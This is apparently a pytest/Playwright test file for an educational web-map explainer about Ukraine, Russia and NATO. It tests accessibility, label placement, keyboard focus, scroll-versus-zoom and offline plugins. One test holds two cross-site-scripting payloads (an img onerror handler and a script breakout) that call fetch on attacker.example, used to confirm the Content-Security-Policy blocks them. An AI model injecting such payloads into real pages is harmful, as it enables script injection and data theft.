"""Maps on pages of their own and in frames: places, names, cards, keys, wheel, no network."""

import functools
import re

import folium
import pytest
from folium import plugins
from playwright.sync_api import expect

import explainer as ex
from tests import browsing, drawn
from tests.sampling import WHOLE
from tools import map_report

pytestmark = pytest.mark.browser

STORY = ex.load()
DONETSK = ex.Gazetteer().geocode("Donetsk", exactly_one=False)
MADE = {
    "places": lambda: ex.maps.places(STORY),
    "events": lambda: ex.maps.events(STORY),
    "borders": lambda: ex.maps.borders_switch(STORY),
    "buildup": lambda: ex.maps.buildup(STORY, "russia"),
    "line": lambda: ex.maps.contact_line(STORY),
    "alliance": lambda: ex.maps.alliance(STORY),
    "candidates": lambda: ex.maps.candidates(STORY, DONETSK, "Donetsk"),
    "tour": lambda: ex.maps.tour(STORY),
}


@pytest.fixture(scope="module")
def saved(tmp_path_factory):
    """A function that gives the address of a map as a file of its own, by name."""
    folder = tmp_path_factory.mktemp("maps")

    @functools.cache
    def get(name):
        MADE[name]().save(folder / f"{name}.html")
        return (folder / f"{name}.html").as_uri()

    return get


@pytest.fixture(scope="module")
def still(module_page):
    """A page on which nothing moves by itself, for one map after the other."""
    return module_page(reduced_motion="reduce")


@pytest.mark.parametrize("name", ["line", "alliance", "buildup"])
def test_all_places_are_marked_and_nothing_bars_a_reader(name, saved, still):
    still.set_viewport_size({"width": 1000, "height": 600})
    still.goto(saved(name))
    expect(still.locator(".ex-marker")).to_have_count(len(drawn.markers(MADE[name]())))
    assert browsing.barriers(still) == []


def test_the_year_changes_by_keyboard(saved, still):
    still.goto(saved("alliance"))
    slider = still.locator(".ex-years input")
    slider.focus()
    for _ in range(2021 - 2004):
        still.keyboard.press("ArrowLeft")
    said = still.locator(".ex-years [role=status]")
    expect(said).to_have_text(re.compile("^2004: 26 members; joined: Bulgaria, Estonia, Latvia"))
    expect(still.locator(".leaflet-ex-areas-pane path.ex-new")).to_have_count(7)
    assert slider.evaluate("element => element === document.activeElement")


#: Maps lettered as another is that is measured: `make hostile` measures them, too.
ALIKE = {"01 search", "02 tour", "03 switch", "03 rules", "03 buildup", "08 members", "09 own text"}
#: Each map, and in which windows it is looked at: all, or each in one, and in each some.
MEASURED = {
    name: map_report.SIZES if WHOLE else [map_report.SIZES[at % len(map_report.SIZES)]]
    for at, name in enumerate(one for one in map_report.maps(STORY) if WHOLE or one not in ALIKE)
}


@pytest.mark.hostile
@pytest.mark.parametrize("name", MEASURED)
def test_names_stand_apart_and_near_their_marks_and_nothing_lies_on_the_map(name, still, tmp_path):
    page = still
    map_report.show(page, map_report.maps(STORY)[name](), tmp_path)
    page.evaluate("mapReport.bare()")
    for size in MEASURED[name]:
        context = []
        for found in map_report.measured(page, size):
            assert found.pop("names") > 2
            context.append(found.pop("context"))
            assert found == {"overlaps": [], "far": [], "outside": [], "covered": 0}
        if name in ("00 places", "03 switch", "08 events"):
            home, _, out = context
            assert out <= home, "farther off, fewer names that only help to find one's way"
    cards = page.evaluate("mapReport.cards()")
    assert cards.pop("opened") > 0
    assert cards == {"cut": [], "late": []}


def test_a_name_opens_its_card_whole_or_with_a_sign_that_there_is_more(saved, new_page):
    page = new_page(viewport={"width": 1000, "height": 520}, reduced_motion="reduce")
    page.goto(saved("places"))
    page.locator(".ex-opens:not(.ex-hidden)", has_text="Kyiv").click()
    card = page.locator(".ex-card-text")
    expect(card.locator("h2")).to_have_text("Kyiv")
    longer = card.evaluate("card => card.scrollHeight > card.clientHeight + 2")
    expect(page.locator(".ex-card .ex-more")).to_be_visible(visible=longer)


def test_an_edge_is_moved_between_two_points_of_view(module_page, tmp_path):
    page = module_page(viewport={"width": 1200, "height": 600})
    ex.maps.borders_swipe(STORY, "ukraine", "russia").save(tmp_path / "swipe.html")
    page.goto((tmp_path / "swipe.html").as_uri())
    names = page.locator(".ex-area-label:not(.ex-hidden)", has_text="Crimea")
    slider = page.get_by_role("slider")
    for key, whose in (("End", "Ukraine"), ("Home", "Russia"), ("End", "Ukraine")):
        slider.press(key)
        expect(names.filter(visible=True)).to_have_text(f"Crimea: {whose}")
    assert browsing.barriers(page) == []
    page.set_viewport_size({"width": 390, "height": 700})
    slider.press("Home")
    expect(names.filter(visible=True)).to_have_text("Crimea: Russia")
    clip = "pane => getComputedStyle(pane).clip"
    assert "0px" in page.locator(".leaflet-ex-areas-0-pane").evaluate(clip)


NARROW = {"width": 660, "height": 480}
AT = "document.activeElement.closest('.ex-marker')?.ariaLabel"
#: What has the focus, and whether it is seen.
SEEN = """() => [document.activeElement.closest(".ex-marker")?.ariaLabel,
  document.activeElement.checkVisibility({ visibilityProperty: true })]"""
MARKERS = "all => all.map(one => one.ariaLabel)"


@pytest.mark.hostile
@pytest.mark.parametrize("name", MADE if WHOLE else ["line", "candidates", "tour"])
def test_the_keyboard_reaches_every_place_and_nothing_hidden(name, saved, still):
    page = still
    page.set_viewport_size(NARROW)
    page.goto(saved(name))
    page.locator(".leaflet-container").first.focus()
    everything = sorted(page.eval_on_selector_all(".ex-marker", MARKERS))
    reached = []
    for _ in range(60):
        page.keyboard.press("Tab")
        at, seen = page.evaluate(SEEN)
        while at and at not in reached:
            assert seen, f"{at} has the focus and is hidden"
            reached.append(at)
            page.keyboard.press("ArrowRight")
            at, seen = page.evaluate(SEEN)
        if len(reached) == len(everything):
            break
    assert sorted(reached) == everything and everything


def test_a_place_that_others_cover_opens_and_gets_the_focus_back(saved, new_page):
    page = new_page(viewport=NARROW, reduced_motion="reduce")
    page.goto(saved("candidates"))
    page.locator(".ex-marker[tabindex='0']").first.focus()
    covered = page.locator(".ex-marker.ex-hidden").first.get_attribute("aria-label")
    while page.evaluate(AT) != covered:
        page.keyboard.press("ArrowRight")
    page.keyboard.press("Enter")
    page.locator(".ex-card-text").wait_for()
    page.keyboard.press("Escape")
    page.locator(".ex-card-text").wait_for(state="hidden")
    assert page.evaluate(AT) == covered


ZOOMS = """frame => Object.values(frame.contentWindow).filter((one) =>
  frame.contentWindow.L && one instanceof frame.contentWindow.L.Map).map((map) => map.getZoom())"""
#: A point of a map at which nothing stands that a click would open.
FREE = """map => {
  const { left, top, width, height } = map.getBoundingClientRect();
  for (let step = 0.2; step < 0.9; step += 0.02) {
    const [x, y] = [left + step * width, top + step * height];
    if (document.elementFromPoint(x, y) === map) return [x - left, y - top];
  }
}"""


@pytest.mark.hostile
@pytest.mark.parametrize("make", ["views", *(["places", "tour"] if WHOLE else [])])
def test_the_page_scrolls_on_over_a_map_which_zooms_only_when_asked(make, new_page, tmp_path):
    drawn = {
        "places": lambda: ex.maps.places(STORY).get_root(),
        "tour": lambda: ex.maps.tour(STORY).get_root(),
        "views": lambda: ex.maps.borders_swipe(
            STORY, *[view.id for view in STORY.views][:2]
        ).get_root(),
    }[make]()
    room = "<p style='height: 1500px'>Words</p>"
    (tmp_path / "page.html").write_text(f"<!DOCTYPE html>{drawn._repr_html_()}{room}", "utf-8")
    page = new_page(viewport={"width": 1280, "height": 800}, reduced_motion="reduce")
    page.goto((tmp_path / "page.html").as_uri())
    frame, inside = page.locator("iframe"), page.frame_locator("iframe")
    inside.locator(".ex-label:not(.ex-hidden)").first.wait_for()

    def wheel(delta: int, *, zooms: bool) -> None:
        """Turn the wheel over the map, and see what moves."""
        page.evaluate("scrollTo(0, 0)")
        before = frame.evaluate(ZOOMS)
        page.mouse.wheel(0, delta)
        if zooms:
            page.wait_for_function(
                f"before => ({ZOOMS})(document.querySelector('iframe'))[0] !== before",
                arg=before[0],
            )
            inside.locator(".leaflet-zoom-anim").first.wait_for(state="detached")
        else:
            page.wait_for_function("scrollY === 100")
            assert frame.evaluate(ZOOMS) == before
        assert zooms == (page.evaluate("scrollY") == 0)

    container = inside.locator(".leaflet-container").first
    x, y = container.evaluate(FREE)
    container.hover(position={"x": x, "y": y})
    wheel(100, zooms=False)
    page.keyboard.down("Control")
    wheel(100, zooms=True)
    page.keyboard.up("Control")
    x, y = container.evaluate(FREE)
    container.click(position={"x": x, "y": y})
    wheel(-100, zooms=True)
    page.mouse.move(2, 2)
    container.hover(position={"x": x, "y": y})
    wheel(100, zooms=False)


ATTACKS = {
    "an event": """<img src="x" onerror="window.hit = 1; fetch('https://attacker.example/')">""",
    "a script": "</script><script>window.hit = 1; fetch('https://attacker.example/')</script>",
}
#: A picture that fails to load, as that of an attack did before it.
LATER = """new Promise((done) => {
  const image = document.createElement("img");
  image.onerror = () => setTimeout(done);
  image.src = "y";
})"""


@pytest.mark.parametrize("policy", [True, False])
@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_a_script_in_somebodys_text_runs_only_without_the_policy(
    attack, policy, new_page, tmp_path
):
    drawn = ex.maps.base(ex.load(), "With a guest")
    folium.Marker((50, 30), popup=folium.Popup(attack)).add_to(drawn)
    text = drawn.get_root().page()
    if not policy:
        text = re.sub(r"<meta http-equiv=.Content-Security-Policy[^>]*>", "", text)
    (tmp_path / "map.html").write_text(text, encoding="utf-8")
    page = new_page()
    asked = []
    page.on("request", lambda request: asked.append(request.url))
    page.route("https://**", lambda route: route.abort())
    page.goto((tmp_path / "map.html").as_uri())
    page.evaluate(LATER)
    assert bool(page.evaluate("window.hit")) != policy
    assert any("attacker" in url for url in asked) != policy


def test_what_students_add_works_without_a_network(new_page, tmp_path):
    drawn = ex.maps.base(ex.load(), "With plugins", extent=((44, 22), (53, 41)))
    cluster = plugins.MarkerCluster().add_to(drawn)
    for lon in (30.5, 30.6, 30.7):
        folium.Marker((50, lon), icon=folium.Icon(color="red", icon="home")).add_to(cluster)
    folium.Marker((46, 30), icon=folium.Icon(color="green")).add_to(drawn)
    plugins.Fullscreen().add_to(drawn)
    plugins.MeasureControl().add_to(drawn)
    plugins.HeatMap([(48, 35), (48.5, 36)]).add_to(drawn)
    drawn.save(tmp_path / "map.html")
    page = new_page(viewport={"width": 1000, "height": 600}, reduced_motion="reduce")
    troubles = []
    page.on("pageerror", lambda error: troubles.append(str(error)))
    page.on("request", lambda request: troubles.append(request.url))
    page.on("console", lambda said: troubles.append(said.text))
    page.goto((tmp_path / "map.html").as_uri())
    page.locator(".marker-cluster", has_text="3").wait_for()
    expect(page.locator(".ex-pin path")).to_have_count(1)
    expect(page.locator("canvas.leaflet-heatmap-layer")).to_have_count(1)
    page.get_by_role("button", name="Measure a distance").click()
    container = page.locator(".leaflet-container")
    for x in (300, 700):
        container.click(position={"x": x, "y": 400})
    said = page.locator(".ex-measure [role=status]").inner_text()
    page.wait_for_function("document.querySelector('.ex-measure [role=status]').textContent")
    ends = page.evaluate(
        """() => { const map = Object.values(window).find((one) => one instanceof L.Map);
        return [300, 700].map((x) => map.containerPointToLatLng([x, 400]))
          .map(({ lat, lng }) => [lat, lng]); }"""
    )
    assert float(said.removesuffix(" km").replace(",", "")) == pytest.approx(
        ex.geography.between_km(*map(tuple, ends)), rel=0.01
    )
    page.get_by_role("button", name="Full Screen").click()
    page.wait_for_function("document.fullscreenElement")
    page.get_by_role("button", name="Exit Full Screen").click()
    page.wait_for_function("!document.fullscreenElement")
    # Chromium's hint on speed is about the plugin's own canvas.
    own = ("file:", "data:", "Canvas2D:")
    assert [trouble for trouble in troubles if not trouble.startswith(own)] == []
